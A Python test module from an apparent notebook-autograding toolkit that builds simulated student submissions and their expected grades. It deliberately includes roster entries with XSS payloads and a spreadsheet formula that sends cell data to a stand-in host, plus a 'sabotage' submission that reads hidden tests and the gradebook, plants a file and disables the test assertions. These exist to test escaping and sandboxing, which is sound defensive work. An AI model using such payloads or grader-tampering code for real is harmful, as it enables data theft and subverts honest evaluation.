"""Simulated students: what each one hands in for a lab, and the grade that hand-in must get.

A class hands in a realistic mix. For student ``i`` (0-based) and lab ``j`` the first seven students rotate
through :data:`SPECIAL` (so a class of 6 students and 2 labs meets every kind once), and the rest alternate
between the reference answers and a bug from the lab's catalogue:

| kind | the notebook | expected |
|---|---|---|
| ``reference`` | every answer cell holds the reference (``metadata.rlprep.reference``) | full marks |
| ``bug`` | one graded function a catalogued bug (``tests/catalog/<lab>.py``) | what the tests give that bug |
| ``untouched`` | the release as fetched (``raise NotImplementedError()``) | what the tests give no answer |
| ``late`` | the reference, submitted after the due date | raw score full, score 0 (late penalty ``zero``) |
| ``deleted_test`` | the reference with a graded test cell deleted | full marks (nbgrader restores the cell) |
| ``syntax_error`` | the reference with a colon missing in the first answer cell | that cell defines nothing |
| ``sabotage`` | no answer; reads hidden tests and gradebook, plants a file | what the tests give no answer |

The expected grade is computed apart from nbgrader: ``score_in_process`` runs the gradebook notebook's test cells
(hidden parts included) in this process with the student's functions bound, so a grade that differs in
``grades.csv`` means the sandboxed autograde path disagrees with the tests themselves.
"""

from __future__ import annotations

import copy
import importlib.util
import inspect
import re
from dataclasses import dataclass
from pathlib import Path

from rlprep.errors import RlprepError

SPECIAL = ("reference", "bug", "untouched", "late", "deleted_test", "syntax_error", "sabotage")
SABOTAGE_MARK = "SABOTAGED"  # the file a sabotage submission tries to plant in the course folder
_SOLUTION_MARK = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", re.M)


@dataclass(frozen=True)
class Plan:
    """What one student hands in for one lab."""

    student: str
    lab: str
    kind: str
    bug: str = ""  # "function:bug_name" for kind "bug"

    @property
    def late(self) -> bool:
        return self.kind == "late"


def student_ids(n: int) -> list[str]:
    """``s01 .. sNN`` (zero-padded to the width of ``n``, at least two digits)."""
    width = max(2, len(str(n)))
    return [f"s{i + 1:0{width}d}" for i in range(n)]


def plans(n_students: int, labs: list[str], bugs: dict[str, list[str]], ids: list[str] | None = None) -> list[Plan]:
    """The class's hand-ins, student by student; ``bugs[lab]`` lists ``"function:bug_name"`` to cycle through."""
    out, used = [], {lab: 0 for lab in labs}
    for i, student in enumerate(ids or student_ids(n_students)):
        for j, lab in enumerate(labs):
            kind = SPECIAL[(i + j) % len(SPECIAL)] if i < len(SPECIAL) else ("bug" if (i + j) % 2 else "reference")
            bug = ""
            if kind == "bug":
                if not bugs.get(lab):
                    kind = "reference"
                else:
                    bug, used[lab] = bugs[lab][used[lab] % len(bugs[lab])], used[lab] + 1
            out.append(Plan(student, lab, kind, bug))
    return out


FIRST = ("Ada", "Grace", "Alan", "Emmy", "Kurt", "Sofia", "Claude", "Hedy", "John", "Ida", "Rosalind", "Edsger")
LAST = ("Lovelace", "Hopper", "Turing", "Noether", "Gödel", "Kovalevskaya", "Shannon", "Lamarr", "Neumann", "Rhodes",
        "Franklin", "Dijkstra")
# Roster entries an instructor may import from a spreadsheet or a hub: every page and file that shows them must
# escape them (rlprep classroom report, the LMS exports). (index on the roster, field, value): index 3 hands lab 1 in
# late, index 7 of a class of 7 (the first absent student) hands in nothing, so the report shows both names.
HOSTILE = ((3, "last_name", '<img src=x onerror="window.__pwned=1">'),
           (4, "first_name", '=HYPERLINK("http://evil.invalid/?"&A1,"grades")'),
           (5, "email", '"><script>window.__pwned=1</script>@example.edu'),
           (6, "last_name", "$\\frac{1}{0}$ <b>bold</b> & co"),
           (7, "first_name", "<script>window.__pwned=1</script>"))


def roster(ids: list[str]) -> list[dict]:
    """A class list as an instructor imports it into nbgrader (``nbgrader db student import``): id, first and last
    name, e-mail. A few entries hold markup, a spreadsheet formula and mathtext (:data:`HOSTILE`)."""
    rows = [{"id": sid, "first_name": FIRST[i % len(FIRST)], "last_name": LAST[(i * 5) % len(LAST)],
             "email": f"{sid}@example.edu"} for i, sid in enumerate(ids)]
    for index, key, value in HOSTILE:
        if index < len(rows):
            rows[index][key] = value
    return rows


# -- the bug catalogue ------------------------------------------------------------------------------
def load_catalog(lab: str, root: Path):
    """``tests/catalog/<lab>.py`` as a module (the catalogue the lab's tests use), or None when absent."""
    path = Path(root) / "tests" / "catalog" / f"{lab}.py"
    if not path.is_file():
        return None
    spec = importlib.util.spec_from_file_location(f"rlprep_classroom_catalog_{lab}", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def catalog_bugs(module, functions: list[str]) -> dict[str, list]:
    """{graded function: [buggy functions]} in either catalogue format (lab01's {name: fn} or the others')."""
    if module is None:
        return {}
    bugs = getattr(module, "BUGS", {})
    if bugs and all(callable(v) for v in bugs.values()):  # lab01_gae: {bug name: fn} for its one function
        return {functions[0]: list(bugs.values())} if len(functions) == 1 else {}
    return {name: list(fns) for name, fns in bugs.items() if name in functions}


def bug_names(lab: str, root: Path, functions: list[str]) -> list[str]:
    """``"function:bug_name"`` for every catalogued bug of the lab, in catalogue order."""
    found = catalog_bugs(load_catalog(lab, root), functions)
    return [f"{name}:{fn.__name__}" for name in functions for fn in found.get(name, [])]


def find_bug(lab: str, root: Path, functions: list[str], bug: str):
    """(module, buggy function) for ``"function:bug_name"``."""
    module = load_catalog(lab, root)
    name, _, bug_name = bug.partition(":")
    for fn in catalog_bugs(module, functions).get(name, []):
        if fn.__name__ == bug_name:
            return module, fn
    raise RlprepError(f"no bug {bug!r} in tests/catalog/{lab}.py", "pick one of the catalogue's BUGS")


# -- notebooks --------------------------------------------------------------------------------------
def _role(cell) -> str:
    return cell.get("metadata", {}).get("rlprep", {}).get("role", "")


def answer_cells(nb) -> list:
    return [c for c in nb.cells if _role(c) == "answer"]


def graded_functions(nb) -> list[str]:
    """The graded function of each answer cell, in notebook order (from ``metadata.rlprep.reference``)."""
    return [c.metadata["rlprep"]["reference"].split(":")[1] for c in answer_cells(nb)]


def reference_answer(cell) -> str:
    """The answer cell's reference source without nbgrader's solution markers (what a learner would type)."""
    from rlprep.grading.authoring import reference_source

    return _SOLUTION_MARK.sub("", reference_source(cell.metadata["rlprep"]["reference"])).strip("\n")


def _bug_cell(module, fn, name: str) -> str:
    """The catalogue module's source (its helpers included) and the graded name bound to one of its bugs."""
    source = inspect.getsource(module).replace("from __future__ import annotations\n", "")
    return f"{source}\n\ndef {name}(*args, **kwargs):\n    return {fn.__name__}(*args, **kwargs)\n"


def _sabotage_cell(names: list[str], targets: list[Path], plant: Path) -> str:
    """Reads the hidden tests and the gradebook if it can, plants a file, rebinds the test helpers; answers nothing."""
    stubs = "\n".join(f"def {name}(*args, **kwargs):\n    raise NotImplementedError()\n" for name in names)
    return (f"import builtins, pathlib\n"
            f"loot = []\n"
            f"for p in {[str(t) for t in targets]!r}:\n"
            f"    try:\n"
            f"        loot.append(pathlib.Path(p).read_bytes()[:200])\n"
            f"    except OSError:\n"
            f"        pass\n"
            f"try:\n"
            f"    pathlib.Path({str(plant)!r}).write_text(repr(loot))\n"
            f"except OSError:\n"
            f"    pass\n"
            f"builtins.assert_close = lambda *a, **k: None  # the tests' helper, rebound in the kernel\n"
            f"{stubs}")


def submission(released, plan: Plan, root: Path, course: Path):
    """The notebook ``plan.student`` hands in for ``plan.lab``, built from the released notebook."""
    nb = copy.deepcopy(released)
    cells = answer_cells(nb)
    if plan.kind == "untouched":
        return nb
    if plan.kind == "sabotage":
        names = graded_functions(nb)
        targets = [course / "source" / plan.lab / f"{plan.lab}.ipynb", course / "gradebook.db",
                   root / "solutions" / plan.lab / "fixtures.py"]
        cells[0].source = _sabotage_cell(names, targets, course / SABOTAGE_MARK)
        for cell in cells[1:]:
            cell.source = "pass"
        return nb
    for cell in cells:
        cell.source = reference_answer(cell)
    if plan.kind == "bug":
        names = graded_functions(nb)
        module, fn = find_bug(plan.lab, root, names, plan.bug)
        name = plan.bug.split(":")[0]
        cells[names.index(name)].source = _bug_cell(module, fn, name)
    elif plan.kind == "syntax_error":
        cells[0].source = _drop_def_colon(cells[0].source)
    elif plan.kind == "deleted_test":
        tests = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
        nb.cells.remove(tests[0])
    return nb


def _drop_def_colon(source: str) -> str:
    """The first ``def`` header without its closing colon (headers may span lines)."""
    lines = source.split("\n")
    start = next(i for i, line in enumerate(lines) if line.startswith("def "))
    end = next(i for i in range(start, len(lines)) if lines[i].rstrip().endswith(":"))
    lines[end] = lines[end].rstrip()[:-1]
    return "\n".join(lines)


# -- the expected grade -----------------------------------------------------------------------------
def expected_grade(gradebook_nb, plan: Plan, root: Path) -> tuple[float, float, float]:
    """(raw score, score, max score) that ``plan``'s hand-in must get, from the tests run in this process."""
    return grade_of(expected_tests(gradebook_nb, plan, root), plan)


def grade_of(results: dict[str, tuple[float, float, str]], plan: Plan) -> tuple[float, float, float]:
    """(raw score, score, max score) of :func:`expected_tests`'s results (a late hand-in scores 0)."""
    raw = sum(points for points, _, _ in results.values())
    total = sum(max_points for _, max_points, _ in results.values())
    return raw, (0.0 if plan.late else raw), total


def expected_tests(gradebook_nb, plan: Plan, root: Path) -> dict[str, tuple[float, float, str]]:
    """{grade id: (points, max points, failure message)} that ``plan``'s hand-in must get, from the tests run in this
    process (``score_in_process``; the message is ``"<error type>: <error>"``, '' for a pass)."""
    import importlib

    from rlprep.grading.executor import score_in_process

    def unanswered(*args, **kwargs):
        raise NotImplementedError()

    names = graded_functions(gradebook_nb)
    refs = {}
    for cell in answer_cells(gradebook_nb):
        module, _, attr = cell.metadata["rlprep"]["reference"].partition(":")
        refs[attr] = getattr(importlib.import_module(module), attr)
    if plan.kind in ("reference", "late", "deleted_test"):
        functions = refs
    elif plan.kind == "bug":
        _, fn = find_bug(plan.lab, root, names, plan.bug)
        functions = dict(refs, **{plan.bug.split(":")[0]: fn})
    elif plan.kind == "syntax_error":
        functions = {k: v for k, v in refs.items() if k not in _defined(answer_cells(gradebook_nb)[0])}
    else:  # untouched, sabotage
        functions = {name: unanswered for name in names}
    return score_in_process(gradebook_nb, functions)


def _defined(cell) -> list[str]:
    from rlprep.grading.selfgrade import def_names

    return def_names(reference_answer(cell))
